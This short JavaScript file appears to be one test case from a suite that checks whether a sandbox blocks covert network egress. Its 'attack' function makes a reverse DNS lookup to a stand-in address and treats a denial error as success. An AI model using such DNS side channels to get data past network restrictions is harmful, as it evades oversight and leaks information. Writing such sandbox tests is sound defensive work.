// dns.lookupService (getnameinfo): a reverse query that carries an address out.
import dns from 'node:dns';
export const meta = { kind: 'dns', evidence: 'attempted' };
export default function attack() {
  return new Promise((resolve, reject) => {
    dns.lookupService('192.0.2.77', 443, (error) => {
      if (error && error.code === 'ERR_LEASH_DENIED') reject(error);
      else resolve('queried');
    });
  });
}
